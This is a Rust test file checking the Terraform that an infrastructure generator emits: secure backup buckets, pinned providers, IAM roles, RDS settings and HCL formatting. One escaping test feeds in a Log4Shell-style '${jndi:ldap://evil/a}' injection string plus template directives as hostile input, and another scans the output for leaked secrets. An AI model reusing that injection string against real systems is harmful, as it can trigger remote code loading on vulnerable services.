//! Domain facts of DESIGN §4.5 visible in the `terraform` outputs of the example fleets: backup
//! buckets that cannot lose backups (object lock, `prevent_destroy`, lifecycle on noncurrent
//! versions only), TLS-only and private buckets, pinned providers, no secrets, IRSA roles with
//! the shared names, RDS for `dedicated-environment`, and plant text that stays data.

use crate::support::{EXAMPLES, filestore_prefix, read_inputs, root};
use blueprint_cli::build::{Options, Verifiers, render_and_verify, verify};
use blueprint_compiler::lower::{Check, Ir, Output, PlantCtx, Scope};
use blueprint_compiler::units::{cpu_millis, quantity};
use blueprint_compiler::{Input, compile};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::OnceLock;

/// Compiles, lowers and renders inputs; returns the IR and the `terraform/` files. Panics on
/// compile errors and on any finding about a Terraform file (a render failure, or a file the
/// verifier refuses: HCL that does not parse or is not in `terraform fmt` layout).
fn terraform_of(inputs: &[Input]) -> Built {
    let c = compile(inputs);
    assert!(
        !c.has_errors(),
        "does not compile:\n{}",
        blueprint_diagnostics::render_human(&c.map, &c.diagnostics, false)
    );
    let fleet = c.fleet.as_ref().expect("a compiled fleet");
    let ir = blueprint_compiler::lower::lower(fleet, &c.plants, &c.platforms);
    let rendered = render_and_verify(&ir, &Options::default());
    let (files, findings) = (rendered.files, rendered.findings);
    let ours: Vec<String> = findings
        .iter()
        .map(|d| d.message.clone())
        .filter(|m| m.contains("terraform/"))
        .collect();
    assert!(ours.is_empty(), "terraform findings:\n{}", ours.join("\n"));
    let files = files
        .into_iter()
        .filter(|(p, _)| p.starts_with("terraform/"))
        .map(|(p, b)| (p, String::from_utf8(b).expect("UTF-8 output")))
        .collect();
    (ir, files)
}

/// An example's IR and its Terraform files by path.
type Built = (Ir, BTreeMap<String, String>);

/// An example fleet's Terraform (each example is built once for all tests of this module).
fn terraform(name: &str) -> &'static Built {
    static BUILT: OnceLock<BTreeMap<&'static str, Built>> = OnceLock::new();
    let built = BUILT.get_or_init(|| {
        EXAMPLES
            .iter()
            .map(|name| {
                let base = root().join("examples").join(name);
                (*name, terraform_of(&read_inputs(&base, "plants")))
            })
            .collect()
    });
    &built[name]
}

/// The lines of the block that starts at the first line equal (trimmed) to `header`, up to its
/// closing brace.
fn block<'a>(text: &'a str, header: &str) -> Vec<&'a str> {
    let lines: Vec<&str> = text.lines().collect();
    let Some(start) = lines.iter().position(|l| l.trim() == header) else {
        return Vec::new();
    };
    let indent = lines[start].len() - lines[start].trim_start().len();
    let end = lines[start + 1..]
        .iter()
        .position(|l| l.trim() == "}" && l.len() - l.trim_start().len() == indent)
        .map_or(lines.len(), |e| start + 1 + e);
    lines[start..=end.min(lines.len() - 1)].to_vec()
}

/// The value written for `key` in a block (`key = value`, aligned or not).
fn attr<'a>(lines: &[&'a str], key: &str) -> Option<&'a str> {
    lines.iter().find_map(|l| {
        let (k, v) = l.split_once('=')?;
        (k.trim() == key).then(|| v.trim())
    })
}

/// The root of a plant environment, or of a cluster's shared platform.
fn plant_dir(p: &PlantCtx) -> String {
    if p.platform {
        format!(
            "terraform/platforms/{}",
            p.cluster.as_deref().expect("a platform's cluster")
        )
    } else {
        format!("terraform/plants/{}/{}", p.name, p.env)
    }
}

/// Plants and platforms whose own pgBackRest writes to the buckets.
fn runs_own_pgbackrest(p: &PlantCtx) -> bool {
    !p.database.managed && !p.database.shared
}

#[test]
fn lifecycle_rules_never_expire_current_objects() {
    for name in EXAMPLES {
        let (_, files) = terraform(name);
        for (path, text) in files {
            let lines: Vec<&str> = text.lines().collect();
            for (i, line) in lines.iter().enumerate() {
                // `expiration {` acts on current objects; `noncurrent_version_expiration {`
                // on the versions pgBackRest already deleted.
                if line.trim() != "expiration {" {
                    continue;
                }
                let body: Vec<&str> = lines[i + 1..]
                    .iter()
                    .take_while(|l| l.trim() != "}")
                    .map(|l| l.trim())
                    .collect();
                assert_eq!(
                    body,
                    ["expired_object_delete_marker = true"],
                    "{name} {path}:{}: an expiration rule may only remove expired delete markers",
                    i + 1
                );
            }
            if text.contains("resource \"aws_s3_bucket_lifecycle_configuration\"") {
                for needed in [
                    "noncurrent_version_expiration {",
                    "abort_incomplete_multipart_upload {",
                    "expired_object_delete_marker = true",
                ] {
                    assert!(text.contains(needed), "{name} {path}: no {needed}");
                }
                assert!(!text.contains("transition {"), "{name} {path}");
            }
        }
    }
}

#[test]
fn every_bucket_is_created_with_object_lock_and_prevent_destroy() {
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        let mut buckets = 0;
        for (path, text) in files {
            if !text.contains("resource \"aws_s3_bucket\" ") {
                continue;
            }
            buckets += 1;
            assert_eq!(path, "terraform/modules/backup-bucket/main.tf", "{name}");
            let bucket = block(text, "resource \"aws_s3_bucket\" \"backup\" {");
            assert_eq!(attr(&bucket, "object_lock_enabled"), Some("true"), "{name}");
            assert_eq!(attr(&bucket, "force_destroy"), Some("false"), "{name}");
            assert_eq!(attr(&bucket, "prevent_destroy"), Some("true"), "{name}");
            // The key that encrypts every backup is protected the same way.
            let key = block(text, "resource \"aws_kms_key\" \"backup\" {");
            assert_eq!(attr(&key, "prevent_destroy"), Some("true"), "{name}");
            assert_eq!(attr(&key, "enable_key_rotation"), Some("true"), "{name}");
            let sse = block(
                text,
                "resource \"aws_s3_bucket_server_side_encryption_configuration\" \"backup\" {",
            );
            assert_eq!(attr(&sse, "sse_algorithm"), Some("\"aws:kms\""), "{name}");
            let versioning = block(text, "resource \"aws_s3_bucket_versioning\" \"backup\" {");
            assert_eq!(attr(&versioning, "status"), Some("\"Enabled\""), "{name}");
        }
        // pgBackRest's repositories and the filestore backups (every tenancy but `shared`).
        let uses_buckets = ir.plants.iter().any(|p| p.tenancy != "shared");
        assert_eq!(buckets, usize::from(uses_buckets), "{name}");
        // Every bucket a pgBackRest repository names has a root that creates it.
        for p in ir.plants.iter().filter(|p| runs_own_pgbackrest(p)) {
            for r in &p.backup.repos {
                let main = &files[&format!("terraform/backup/{}/main.tf", r.cloud_region)];
                let call = block(main, "module \"backup_bucket\" {");
                assert_eq!(
                    attr(&call, "bucket_name"),
                    Some(format!("\"{}\"", r.bucket).as_str()),
                    "{name}"
                );
            }
        }
    }
}

#[test]
fn object_lock_default_retention_only_where_critical_plants_and_within_their_retention() {
    let mut locked = 0;
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        for (path, text) in files
            .iter()
            .filter(|(p, _)| p.starts_with("terraform/backup/") && p.ends_with("/main.tf"))
        {
            let call = block(text, "module \"backup_bucket\" {");
            let bucket = attr(&call, "bucket_name")
                .expect("bucket_name")
                .trim_matches('"');
            let days: u64 = attr(&call, "object_lock_days")
                .and_then(|d| d.parse().ok())
                .expect("object_lock_days");
            let noncurrent: u64 = attr(&call, "noncurrent_version_days")
                .and_then(|d| d.parse().ok())
                .expect("noncurrent_version_days");
            let critical: Vec<&PlantCtx> = ir
                .plants
                .iter()
                .filter(|p| p.tier == "critical" && !p.database.managed)
                .filter(|p| p.backup.repos.iter().any(|r| r.bucket == bucket))
                .collect();
            if critical.is_empty() {
                assert_eq!(days, 0, "{name} {path}: no critical plant uses {bucket}");
            } else {
                locked += 1;
                assert!(days > 0, "{name} {path}: critical plants use {bucket}");
                for p in &critical {
                    assert!(
                        days <= p.backup.retention_full_days,
                        "{name} {path}: locked {days}d, longer than {}/{} keeps full backups ({}d)",
                        p.name,
                        p.env,
                        p.backup.retention_full_days
                    );
                }
            }
            assert!(noncurrent > days, "{name} {path}: lifecycle races the lock");
        }
        if let Some(module) = files.get("terraform/modules/backup-bucket/main.tf") {
            let lock = block(
                module,
                "resource \"aws_s3_bucket_object_lock_configuration\" \"backup\" {",
            );
            assert_eq!(
                attr(&lock, "count"),
                Some("var.object_lock_days > 0 ? 1 : 0"),
                "{name}"
            );
            assert_eq!(attr(&lock, "mode"), Some("\"GOVERNANCE\""), "{name}");
            assert_eq!(attr(&lock, "days"), Some("var.object_lock_days"), "{name}");
        }
    }
    assert!(
        locked > 0,
        "some example has a critical plant with pgBackRest"
    );
}

#[test]
fn buckets_refuse_requests_without_tls() {
    let mut seen = 0;
    for name in EXAMPLES {
        let (_, files) = terraform(name);
        let Some(text) = files.get("terraform/modules/backup-bucket/main.tf") else {
            continue;
        };
        seen += 1;
        let policy = block(text, "data \"aws_iam_policy_document\" \"tls_only\" {");
        assert_eq!(attr(&policy, "effect"), Some("\"Deny\""), "{name}");
        assert_eq!(attr(&policy, "actions"), Some("[\"s3:*\"]"), "{name}");
        assert_eq!(attr(&policy, "test"), Some("\"Bool\""), "{name}");
        assert_eq!(
            attr(&policy, "variable"),
            Some("\"aws:SecureTransport\""),
            "{name}"
        );
        assert_eq!(attr(&policy, "values"), Some("[\"false\"]"), "{name}");
        assert_eq!(attr(&policy, "identifiers"), Some("[\"*\"]"), "{name}");
        let attached = block(text, "resource \"aws_s3_bucket_policy\" \"backup\" {");
        assert_eq!(
            attr(&attached, "policy"),
            Some("data.aws_iam_policy_document.tls_only.json"),
            "{name}"
        );
    }
    assert!(seen > 0, "no example has a backup bucket");
}

#[test]
fn public_access_is_blocked_entirely_and_acls_are_off() {
    let mut seen = 0;
    for name in EXAMPLES {
        let (_, files) = terraform(name);
        let Some(text) = files.get("terraform/modules/backup-bucket/main.tf") else {
            continue;
        };
        seen += 1;
        let block_ = block(
            text,
            "resource \"aws_s3_bucket_public_access_block\" \"backup\" {",
        );
        for key in [
            "block_public_acls",
            "block_public_policy",
            "ignore_public_acls",
            "restrict_public_buckets",
        ] {
            assert_eq!(attr(&block_, key), Some("true"), "{name} {key}");
        }
        let ownership = block(
            text,
            "resource \"aws_s3_bucket_ownership_controls\" \"backup\" {",
        );
        assert_eq!(
            attr(&ownership, "object_ownership"),
            Some("\"BucketOwnerEnforced\""),
            "{name}"
        );
    }
    assert!(seen > 0, "no example has a backup bucket");
}

#[test]
fn every_module_and_root_pins_terraform_and_the_aws_provider() {
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        let dirs: BTreeSet<&str> = files
            .keys()
            .filter_map(|p| p.rsplit_once('/').map(|(d, _)| d))
            .collect();
        for dir in &dirs {
            let versions = &files[&format!("{dir}/versions.tf")];
            assert_eq!(
                attr(&versions.lines().collect::<Vec<_>>(), "required_version"),
                Some("\">= 1.10\""),
                "{name} {dir}"
            );
            let aws = block(versions, "aws = {");
            assert_eq!(attr(&aws, "source"), Some("\"hashicorp/aws\""), "{name}");
            assert_eq!(attr(&aws, "version"), Some("\"~> 6.0\""), "{name} {dir}");
            let is_module = dir.starts_with("terraform/modules/");
            for (file, text) in files
                .iter()
                .filter(|(p, _)| p.starts_with(&format!("{dir}/")))
            {
                assert_eq!(
                    text.contains("provider \"aws\" {") || text.contains("backend \"s3\""),
                    !is_module
                        && (file.ends_with("/providers.tf") || file.ends_with("/backend.tf")),
                    "{name} {file}: providers and backends belong to roots only"
                );
            }
            if is_module {
                continue;
            }
            let backend = block(&files[&format!("{dir}/backend.tf")], "backend \"s3\" {");
            assert_eq!(
                attr(&backend, "bucket"),
                Some(format!("\"{}-terraform-state\"", ir.fleet.org).as_str()),
                "{name} {dir}"
            );
            let key = dir.trim_start_matches("terraform/");
            assert_eq!(
                attr(&backend, "key"),
                Some(format!("\"{key}/terraform.tfstate\"").as_str()),
                "{name} {dir}"
            );
            assert_eq!(attr(&backend, "use_lockfile"), Some("true"), "{name}");
            assert_eq!(attr(&backend, "encrypt"), Some("true"), "{name}");
            assert!(
                !backend.iter().any(|l| l.contains("dynamodb_table")),
                "{name} {dir}: DynamoDB locking is deprecated"
            );
            let providers = &files[&format!("{dir}/providers.tf")];
            assert!(
                providers.contains(&format!(
                    "allowed_account_ids = [\"{}\"]",
                    ir.fleet.account_id
                )),
                "{name} {dir}"
            );
        }
        // Every plant environment has its root, in its own cloud region, tagged as its plant.
        for p in &ir.plants {
            let providers = &files[&format!("{}/providers.tf", plant_dir(p))];
            let lines: Vec<&str> = providers.lines().collect();
            assert_eq!(
                attr(&lines, "region"),
                Some(format!("\"{}\"", p.cloud_region).as_str())
            );
            assert_eq!(
                attr(&lines, "Plant"),
                Some(format!("\"{}\"", p.name).as_str())
            );
            assert_eq!(
                attr(&lines, "Environment"),
                Some(format!("\"{}\"", p.env).as_str())
            );
            assert_eq!(
                attr(&lines, "CostCenter").map(str::to_string),
                p.cost_center.as_ref().map(|c| format!("\"{c}\""))
            );
        }
    }
}

#[test]
fn modules_exist_only_when_a_root_calls_them_and_sources_are_relative() {
    for name in EXAMPLES {
        let (_, files) = terraform(name);
        let rendered: BTreeSet<String> = files
            .keys()
            .filter_map(|p| p.strip_prefix("terraform/modules/"))
            .filter_map(|p| p.split_once('/').map(|(m, _)| m.to_string()))
            .collect();
        let mut called = BTreeSet::new();
        for (path, text) in files
            .iter()
            .filter(|(p, _)| !p.starts_with("terraform/modules/") && p.ends_with("/main.tf"))
        {
            for line in text
                .lines()
                .filter(|l| l.trim_start().starts_with("source "))
            {
                let source = attr(&[line], "source").expect("a source").trim_matches('"');
                let depth = if path.starts_with("terraform/plants/") {
                    3
                } else {
                    2
                };
                let module = source
                    .strip_prefix(&format!("{}modules/", "../".repeat(depth)))
                    .unwrap_or_else(|| panic!("{name} {path}: source {source}"));
                called.insert(module.to_string());
            }
        }
        assert_eq!(rendered, called, "{name}");
        for module in &rendered {
            for file in ["main.tf", "variables.tf", "outputs.tf", "versions.tf"] {
                assert!(
                    files.contains_key(&format!("terraform/modules/{module}/{file}")),
                    "{name} {module}/{file}"
                );
            }
        }
    }
}

#[test]
fn no_secret_value_reaches_terraform() {
    for name in EXAMPLES {
        let (_, files) = terraform(name);
        for (path, text) in files {
            for line in text.lines() {
                let l = line.trim().to_ascii_lowercase();
                let key = l.split('=').next().unwrap_or("").trim();
                assert!(
                    !(key.ends_with("password") || key.ends_with("secret_key"))
                        || key == "manage_master_user_password",
                    "{name} {path}: {line}"
                );
                assert!(
                    !l.contains("access_key") && !line.contains("AKIA"),
                    "{name} {path}: {line}"
                );
            }
        }
        if let Some(db) = files.get("terraform/modules/managed-database/main.tf") {
            let instance = block(db, "resource \"aws_db_instance\" \"this\" {");
            assert_eq!(
                attr(&instance, "manage_master_user_password"),
                Some("true"),
                "{name}: the password stays in Secrets Manager"
            );
        }
    }
}

#[test]
fn plant_text_reaching_hcl_stays_escaped() {
    let hostile = "Lyon ${jndi:ldap://evil/a} %{ if true }x%{ endif } \\\" } # break";
    let base = std::fs::read_to_string(root().join("examples/quickstart/plants/lyon.yaml"))
        .expect("quickstart");
    let yaml = base.replace(
        "displayName: \"Lyon – stamping and assembly\"",
        &format!(
            "displayName: \"{}\"",
            hostile.replace('\\', "\\\\").replace('"', "\\\"")
        ),
    );
    assert_ne!(yaml, base);
    let (_, files) = terraform_of(&[Input {
        path: "plants/lyon.yaml".into(),
        bytes: yaml.into_bytes(),
        is_fleet: false,
    }]);
    let outputs = &files["terraform/plants/lyon/prod/outputs.tf"];
    let value = attr(&outputs.lines().collect::<Vec<_>>(), "display_name").expect("display_name");
    assert_eq!(
        value,
        "\"Lyon $${jndi:ldap://evil/a} %%{ if true }x%%{ endif } \\\\\\\" } # break\""
    );
    for (path, text) in files {
        assert!(
            !text.replace("$${", "").contains("${jndi") && !text.contains(" %{ if"),
            "{path}: unescaped template sequence"
        );
    }
}

#[test]
fn every_terraform_file_passes_the_hcl_verifier() {
    let verifiers = Verifiers::new().expect("schemas compile");
    for name in EXAMPLES {
        let (_, files) = terraform(name);
        assert!(!files.is_empty(), "{name}");
        for (path, text) in files {
            assert!(path.ends_with(".tf"), "{path}");
            let output = Output {
                path: path.clone(),
                template: String::new(),
                scope: Scope::Fleet,
                item: Value::Null,
                check: Check::Hcl,
            };
            let problems = verify(&verifiers, &output, text);
            assert!(problems.is_empty(), "{name} {path}: {problems:?}");
            // Emission rules of reference terraform.md §6 that fmt leaves alone: one blank
            // line between top-level blocks, never two in a row.
            let lines: Vec<&str> = text.lines().collect();
            for (i, pair) in lines.windows(2).enumerate() {
                assert!(
                    pair[0] != "}" || pair[1].is_empty(),
                    "{name} {path}:{}: no blank line after a block",
                    i + 2
                );
                assert!(
                    !pair[0].is_empty() || !pair[1].is_empty(),
                    "{name} {path}:{}: two blank lines",
                    i + 2
                );
            }
        }
    }
}

#[test]
fn pgbackrest_role_uses_the_shared_name_and_trusts_the_cluster_of_its_pods() {
    let mut seen = BTreeSet::new();
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        for p in &ir.plants {
            let main = &files[&format!("{}/main.tf", plant_dir(p))];
            let call = block(main, "module \"backup_identity\" {");
            // Every namespace with an Odoo of its own backs up its filestore with this role.
            if p.tenancy == "shared" {
                assert!(
                    call.is_empty(),
                    "{name} {}/{}: neither pgBackRest nor a filestore of its own",
                    p.name,
                    p.env
                );
                continue;
            }
            if !runs_own_pgbackrest(p) {
                assert_eq!(attr(&call, "service_accounts"), Some("[]"));
                assert_eq!(attr(&call, "repositories"), Some("{}"));
                assert!(call.iter().any(|l| l.trim() == "filestore = {"));
                continue;
            }
            seen.insert(p.tenancy.clone());
            assert_eq!(
                attr(&call, "role_name"),
                Some(format!("\"{}\"", p.names.backup_role).as_str())
            );
            assert_eq!(
                attr(&call, "role_path"),
                Some(format!("\"/{}/\"", ir.fleet.org).as_str())
            );
            // role/<path><name> is the ARN the ServiceAccounts are annotated with.
            assert!(
                p.names
                    .backup_role_arn
                    .ends_with(&format!(":role/{}/{}", ir.fleet.org, p.names.backup_role))
            );
            let issuer = attr(&call, "oidc_issuer").expect("oidc_issuer");
            match &p.oidc_issuer {
                _ if p.cluster.is_none() => assert_eq!(issuer, "module.cluster.oidc_issuer"),
                Some(i) => assert_eq!(issuer, format!("\"{i}\"")),
                None => assert!(issuer.starts_with("data.aws_eks_cluster.")),
            }
            let ns = &p.names.namespace;
            assert_eq!(
                attr(&call, "service_accounts"),
                Some(
                    format!("[\"{ns}:postgres-instance\", \"{ns}:postgres-pgbackrest\"]").as_str()
                )
            );
            for r in &p.backup.repos {
                let repo = block(main, &format!("\"{}\" = {{", r.name));
                assert_eq!(
                    attr(&repo, "bucket"),
                    Some(format!("\"{}\"", r.bucket).as_str())
                );
                assert_eq!(
                    attr(&repo, "region"),
                    Some(format!("\"{}\"", r.cloud_region).as_str())
                );
                assert_eq!(
                    attr(&repo, "path"),
                    Some(format!("\"{}\"", r.path).as_str())
                );
            }
        }
        if let Some(module) = files.get("terraform/modules/pgbackrest-identity/main.tf") {
            for needed in [
                "\"sts:AssumeRoleWithWebIdentity\"",
                "\"${local.issuer}:sub\"",
                "\"${local.issuer}:aud\"",
                "[\"sts.amazonaws.com\"]",
                "\"s3:prefix\"",
                "\"s3:GetObjectVersion\"",
                "\"kms:GenerateDataKey\"",
            ] {
                assert!(module.contains(needed), "{name}: {needed}");
            }
        }
    }
    // The shared platform's pgBackRest has its role too, in `terraform/platforms/<cluster>/`.
    for tenancy in ["dedicated-namespace", "dedicated-cluster", "platform"] {
        assert!(seen.contains(tenancy), "{tenancy}");
    }
}

#[test]
fn dedicated_tenancies_get_their_cluster_and_dedicated_environments_their_rds() {
    let mut databases = 0;
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        for p in &ir.plants {
            let main = &files[&format!("{}/main.tf", plant_dir(p))];
            let cluster = block(main, "module \"cluster\" {");
            let dedicated = matches!(
                p.tenancy.as_str(),
                "dedicated-cluster" | "dedicated-environment"
            );
            assert_eq!(
                !cluster.is_empty(),
                dedicated,
                "{name} {}/{}",
                p.name,
                p.env
            );
            if dedicated {
                assert_eq!(
                    attr(&cluster, "name"),
                    Some(format!("\"{}-{}\"", p.name, p.env).as_str())
                );
                assert_eq!(
                    attr(&cluster, "cidr").map(str::to_string),
                    p.cidr.as_ref().map(|c| format!("\"{c}\""))
                );
            }
            let db = block(main, "module \"database\" {");
            assert_eq!(
                !db.is_empty(),
                p.database.managed,
                "{name} {}/{}",
                p.name,
                p.env
            );
            if !p.database.managed {
                continue;
            }
            databases += 1;
            let pitr_days = p.recovery.pitr_window_s.div_ceil(86_400).min(35);
            assert_eq!(
                attr(&db, "backup_retention_period"),
                Some(pitr_days.to_string().as_str())
            );
            assert_eq!(
                attr(&db, "engine_version"),
                Some(format!("\"{}\"", p.database.postgres_version).as_str())
            );
            assert_eq!(
                attr(&db, "multi_az"),
                Some(if p.database.instances >= 2 {
                    "true"
                } else {
                    "false"
                })
            );
            let peer = p
                .backup
                .repos
                .iter()
                .find(|r| r.cloud_region != p.cloud_region)
                .map(|r| format!("\"{}\"", r.cloud_region));
            let expected = match (&p.tier[..], peer) {
                ("critical", Some(peer)) => peer,
                _ => "null".to_string(),
            };
            assert_eq!(attr(&db, "replica_region"), Some(expected.as_str()));
            // The daily backup window ends where the weekly maintenance window starts.
            let backup = attr(&db, "backup_window")
                .expect("backup_window")
                .trim_matches('"');
            let maintenance = attr(&db, "maintenance_window")
                .expect("maintenance_window")
                .trim_matches('"');
            let (_, backup_end) = backup.split_once('-').expect("hh:mm-hh:mm");
            assert_eq!(
                maintenance.get(4..9),
                Some(backup_end),
                "{backup} {maintenance}"
            );
        }
        if let Some(module) = files.get("terraform/modules/managed-database/main.tf") {
            let instance = block(module, "resource \"aws_db_instance\" \"this\" {");
            for (key, value) in [
                ("storage_encrypted", "true"),
                ("deletion_protection", "true"),
                ("copy_tags_to_snapshot", "true"),
                ("publicly_accessible", "false"),
                ("skip_final_snapshot", "false"),
                ("prevent_destroy", "true"),
            ] {
                assert_eq!(attr(&instance, key), Some(value), "{name} {key}");
            }
            let replication = block(
                module,
                "resource \"aws_db_instance_automated_backups_replication\" \"this\" {",
            );
            assert_eq!(attr(&replication, "region"), Some("var.replica_region"));
        }
    }
    assert!(databases > 0);
}

#[test]
fn dns_records_cover_the_plant_host_and_its_client_certificate_hosts() {
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        for p in &ir.plants {
            let main = &files[&format!("{}/main.tf", plant_dir(p))];
            let dns = block(main, "module \"dns\" {");
            if p.platform {
                // Nothing routes the platform's own host; its tenants' roots write theirs.
                assert!(dns.is_empty(), "{name} {}", plant_dir(p));
                continue;
            }
            let mut names = vec![format!("\"{}\"", p.host)];
            names.extend(
                p.integrations
                    .iter()
                    .filter_map(|i| i.host.as_ref())
                    .map(|h| format!("\"{h}\"")),
            );
            assert_eq!(
                attr(&dns, "names"),
                Some(format!("[{}]", names.join(", ")).as_str())
            );
            assert_eq!(
                attr(&dns, "zone_name"),
                Some(format!("\"{}\"", ir.fleet.dns_zone).as_str())
            );
            let cluster = match &p.cluster {
                Some(c) => format!("\"{c}\""),
                None => "module.cluster.name".to_string(),
            };
            assert_eq!(attr(&dns, "cluster_name"), Some(cluster.as_str()));
        }
    }
}

#[test]
fn a_fleet_cluster_without_oidc_issuer_is_read_from_eks() {
    let fleet =
        std::fs::read_to_string(root().join("examples/manufacturing-group/plants/fleet.toml"))
            .expect("fleet");
    let without: String = fleet
        .lines()
        .filter(|l| !l.starts_with("oidcIssuer"))
        .map(|l| format!("{l}\n"))
        .collect();
    assert_ne!(without, fleet);
    let base = root().join("examples/manufacturing-group");
    let inputs: Vec<Input> = read_inputs(&base, "plants")
        .into_iter()
        .map(|mut i| {
            if i.is_fleet {
                i.bytes = without.clone().into_bytes();
            }
            i
        })
        .collect();
    let (ir, files) = terraform_of(&inputs);
    let p = ir
        .plants
        .iter()
        .find(|p| p.tenancy == "dedicated-namespace")
        .expect("a dedicated-namespace plant");
    let main = &files[&format!("{}/main.tf", plant_dir(p))];
    let lookup = block(main, "data \"aws_eks_cluster\" \"this\" {");
    assert_eq!(
        attr(&lookup, "name").map(str::to_string),
        p.cluster.as_ref().map(|c| format!("\"{c}\""))
    );
    let call = block(main, "module \"backup_identity\" {");
    assert_eq!(
        attr(&call, "oidc_issuer"),
        Some("data.aws_eks_cluster.this.identity[0].oidc[0].issuer")
    );
}

#[test]
fn restore_tests_get_the_roles_their_service_accounts_are_annotated_with() {
    let mut seen = BTreeSet::new();
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        for p in &ir.plants {
            let Some(t) = p
                .derived
                .get("database")
                .and_then(|d| d.get("restore_test"))
                .filter(|t| !t.is_null())
            else {
                continue;
            };
            let kind = t["kind"].as_str().expect("kind");
            let arn = t["role_arn"].as_str().expect("role_arn");
            let (path, role) = arn
                .split_once(":role")
                .and_then(|(_, r)| r.rsplit_once('/'))
                .expect("role/<path>/<name>");
            assert_eq!(format!("{path}/"), format!("/{}/", ir.fleet.org), "{arn}");
            let main = &files[&format!("{}/main.tf", plant_dir(p))];
            let (call, other) = if kind == "rds" {
                ("module \"database\" {", "module \"backup_identity\" {")
            } else {
                ("module \"backup_identity\" {", "module \"database\" {")
            };
            assert!(
                block(main, other)
                    .iter()
                    .all(|l| !l.contains("restore_test"))
            );
            let call = block(main, call);
            let at = call
                .iter()
                .position(|l| l.trim() == "restore_test = {")
                .unwrap_or_else(|| panic!("{name} {}: no restore_test role", plant_dir(p)));
            let restore = &call[at..];
            assert_eq!(
                attr(restore, "role_name"),
                Some(format!("\"{role}\"").as_str())
            );
            let (ns, test) = (&p.names.namespace, t["name"].as_str().expect("name"));
            let accounts = attr(restore, "service_accounts").expect("service_accounts");
            // RDS: the runner calls the RDS API. PGO: only the throw-away cluster's pods read
            // the repositories; the runner talks to Kubernetes only.
            let expected = if kind == "rds" {
                format!("[\"{ns}:{test}\"]")
            } else {
                format!("[\"{ns}:{test}-instance\", \"{ns}:{test}-pgbackrest\"]")
            };
            assert_eq!(accounts, expected);
            if kind == "rds" {
                assert_eq!(
                    attr(restore, "target_identifier"),
                    Some(format!("\"{}\"", t["target"].as_str().expect("target")).as_str())
                );
            }
            seen.insert(kind.to_string());
        }
        // The PGO restore test reads the repositories and writes nothing.
        if let Some(module) = files.get("terraform/modules/pgbackrest-identity/main.tf") {
            let read_only = block(module, "data \"aws_iam_policy_document\" \"read_only\" {");
            let actions: Vec<&str> = read_only
                .iter()
                .filter(|l| l.trim_start().starts_with("actions"))
                .copied()
                .collect();
            assert!(!actions.is_empty());
            for a in actions {
                assert!(
                    !a.contains("Put") && !a.contains("Delete") && !a.contains("GenerateDataKey"),
                    "{name}: {a}"
                );
            }
        }
    }
    assert!(seen.contains("pgo") && seen.contains("rds"), "{seen:?}");
}

/// Requests (millicores, bytes) of a `{"requests": {"cpu", "memory"}}` value.
fn requests_of(v: &Value) -> (u64, u64) {
    let r = &v["requests"];
    (
        millicores(r["cpu"].as_str().expect("cpu")),
        bytes(r["memory"].as_str().expect("memory")),
    )
}

fn millicores(s: &str) -> u64 {
    cpu_millis(s).unwrap_or_else(|e| panic!("{s}: {e}"))
}

fn bytes(s: &str) -> u64 {
    quantity(s).unwrap_or_else(|e| panic!("{s}: {e}"))
}

#[test]
fn dedicated_cluster_nodes_hold_the_largest_pod_with_the_daemonsets() {
    // vCPUs and GiB of the types a cluster may get.
    let types: BTreeMap<&str, (u64, u64)> = [
        ("m6i.xlarge", (4, 16)),
        ("r6i.xlarge", (4, 32)),
        ("m6i.2xlarge", (8, 32)),
        ("r6i.2xlarge", (8, 64)),
        ("m6i.4xlarge", (16, 64)),
        ("r6i.4xlarge", (16, 128)),
        ("m6i.8xlarge", (32, 128)),
        ("r6i.8xlarge", (32, 256)),
    ]
    .into_iter()
    .collect();
    let mut seen = 0;
    for name in EXAMPLES {
        let (ir, files) = terraform(name);
        for p in ir.plants.iter().filter(|p| {
            matches!(
                p.tenancy.as_str(),
                "dedicated-cluster" | "dedicated-environment"
            )
        }) {
            let main = &files[&format!("{}/main.tf", plant_dir(p))];
            let cluster = block(main, "module \"cluster\" {");
            let t = attr(&cluster, "node_instance_types").expect("types");
            let t = t.trim_matches(|c| c == '[' || c == ']' || c == '"');
            let (vcpus, gib) = types[t];
            // Largest pod: the PostgreSQL instance with its sidecars, or the Odoo web pod.
            let mut pods = vec![(
                millicores(&p.odoo.cpu_request),
                bytes(&p.odoo.memory_request),
            )];
            if let Some(pg) = p.derived["database"]
                .get("postgres")
                .filter(|v| !v.is_null())
            {
                let parts = [
                    "database",
                    "cert_copy",
                    "pgbackrest",
                    "pgbackrest_config",
                    "exporter",
                ];
                pods.push(
                    parts
                        .iter()
                        .map(|c| requests_of(&pg[*c]))
                        .fold((0, 0), |a, b| (a.0 + b.0, a.1 + b.1)),
                );
            }
            for (cpu, memory) in pods {
                // The DaemonSets' 1 vCPU / 2 GiB and the kubelet's reserve still fit.
                assert!(cpu + 1000 < vcpus * 1000, "{name} {t}: {cpu}m");
                assert!(memory + (2 << 30) < gib << 30, "{name} {t}: {memory}");
            }
            let min: u64 = attr(&cluster, "node_min_size")
                .expect("min")
                .parse()
                .expect("n");
            let max: u64 = attr(&cluster, "node_max_size")
                .expect("max")
                .parse()
                .expect("n");
            assert!(min >= 3 && max > min, "{name}: {min}..{max}");
            seen += 1;
        }
    }
    assert!(seen > 0);
    // lyon/prod's PostgreSQL requests about 32 GiB: more than an m6i.2xlarge can hold.
    let (ir, files) = terraform("manufacturing-group");
    let lyon = ir
        .plants
        .iter()
        .find(|p| p.name == "lyon" && p.env == "prod")
        .expect("lyon/prod");
    let main = &files[&format!("{}/main.tf", plant_dir(lyon))];
    assert_eq!(
        attr(&block(main, "module \"cluster\" {"), "node_instance_types"),
        Some("[\"r6i.2xlarge\"]")
    );
}

#[test]
fn dedicated_clusters_enforce_network_policies_and_give_controllers_their_roles() {
    let (_, files) = terraform("manufacturing-group");
    let module = &files["terraform/modules/cluster/main.tf"];
    let cni = block(module, "resource \"aws_eks_addon\" \"vpc_cni\" {");
    assert_eq!(attr(&cni, "addon_name"), Some("\"vpc-cni\""));
    assert_eq!(
        attr(&cni, "configuration_values"),
        Some("jsonencode({ enableNetworkPolicy = \"true\" })")
    );
    for sa in [
        "kube-system:aws-load-balancer-controller",
